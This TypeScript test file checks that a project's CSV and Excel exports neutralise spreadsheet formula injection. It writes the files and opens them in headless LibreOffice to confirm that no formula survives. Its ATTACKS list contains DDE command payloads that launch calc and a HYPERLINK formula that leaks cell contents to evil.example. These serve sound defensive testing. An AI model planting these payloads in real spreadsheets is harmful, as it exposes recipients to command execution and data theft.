import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { numericColumns, tableColumns } from '../exports/export-rows';
import { mapColumns, rowCells, specs } from '../register/specs';
import { incidentRow } from '../test/fixtures';
import { csvTable, guardCell, toCsv, xlsxWorkbook } from './export';

const run = promisify(execFile);

/** Cells Excel or LibreOffice would run, from the attack on the exports (#16). */
const ATTACKS = [
  "-1+cmd|' /C calc'!A0",
  '+1+HYPERLINK("http://evil.example/?leak="&A1,"x")',
  '=1+1',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  "'=already guarded",
];

describe('the formula guard of every file written for spreadsheets', () => {
  it('guards every cell a spreadsheet would evaluate, and import takes the guard off again', () => {
    for (const cell of ATTACKS) {
      expect(guardCell(cell), cell).toBe(`'${cell}`);
      expect(guardCell(cell, true), cell).toBe(`'${cell}`);
    }
    const map = mapColumns(specs.incidents, ['summary']);
    for (const cell of ATTACKS) expect(rowCells(map, [guardCell(cell)]).summary).toBe(cell);
  });

  it('leaves plain text alone, and plain numbers in numeric columns only', () => {
    for (const cell of ['Kidal', "l'attaque", '', '12', '0539']) expect(guardCell(cell)).toBe(cell);
    for (const cell of ['-0.0400', '-12', '+3', '1.5e3']) {
      expect(guardCell(cell, true)).toBe(cell);
      expect(guardCell(cell)).toBe(cell.startsWith('-') || cell.startsWith('+') ? `'${cell}` : cell);
    }
    expect(guardCell('-1+1', true)).toBe("'-1+1");
  });

  describe('opened by LibreOffice with formulas evaluated', () => {
    let dir: string;
    beforeAll(async () => {
      await run('sh', ['-c', 'command -v soffice']).catch(() => {
        throw new Error('this test opens the files with soffice: apt-get install -y libreoffice-calc-nogui');
      });
      dir = await mkdtemp(join(tmpdir(), 'headstamp-guard-'));
    });
    afterAll(() => rm(dir, { recursive: true, force: true }));

    /** The file as LibreOffice reads it, saved as flat ODF: formulas show as `table:formula`. */
    async function openInLibreOffice(files: string[], infilter?: string): Promise<string[]> {
      await run(
        'soffice',
        [
          `-env:UserInstallation=file://${join(dir, 'lo-profile')}`,
          '--headless',
          ...(infilter ? [`--infilter=${infilter}`] : []),
          '--convert-to',
          'fods',
          '--outdir',
          join(dir, 'out'),
          ...files.map((f) => join(dir, f)),
        ],
        { timeout: 120_000 },
      );
      return Promise.all(files.map((f) => readFile(join(dir, 'out', f.replace(/\.\w+$/, '.fods')), 'utf8')));
    }

    it('finds no formula in the canonical CSV, the incident export, the weapons register or a workbook', async () => {
      const incident = incidentRow({
        ref: 'G1',
        summary: ATTACKS[0]!,
        target: ATTACKS[1]!,
        lat: '-0.5',
        lon: '-4.0921',
      });
      const attackRow = Object.fromEntries(tableColumns.map((c, i) => [c, ATTACKS[i % ATTACKS.length]!]));
      const exportRow = { ...attackRow, lat: '-0.5', lon: '-4.0921', killed: '3' };
      const registerRow = { ref: ATTACKS[0]!, model: ATTACKS[1]!, quantity: '-2', notes: ATTACKS[3]! };
      // The case-file package writes its incidents.csv and items.csv with toCsv, like the CLI export.
      await writeFile(join(dir, 'canonical.csv'), toCsv('incidents', [incident]));
      await writeFile(join(dir, 'export.csv'), csvTable(tableColumns, [exportRow], ',', numericColumns));
      await writeFile(
        join(dir, 'register.csv'),
        csvTable(Object.keys(registerRow), [registerRow], ',', new Set(['quantity'])),
      );
      await writeFile(
        join(dir, 'export.xlsx'),
        await xlsxWorkbook([
          { name: 'incidents', columns: tableColumns, rows: [exportRow], numbers: numericColumns },
        ]),
      );
      // Comma-separated, UTF-8, from line 1, and (the 13th option) formulas evaluated, as Excel does.
      const csvs = await openInLibreOffice(
        ['canonical.csv', 'export.csv', 'register.csv'],
        'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true',
      );
      const [workbook] = await openInLibreOffice(['export.xlsx']);
      for (const opened of [...csvs, workbook!]) {
        expect(opened).toContain('<table:table-cell');
        expect(opened).not.toContain('table:formula');
      }
      // Negative coordinates and counts stay numbers.
      for (const opened of [csvs[0]!, csvs[1]!, workbook!])
        expect(opened).toMatch(/office:value-type="float" office:value="-0.5"/);
      expect(csvs[2]).toMatch(/office:value-type="float" office:value="-2"/);
    }, 240_000);
  });
});
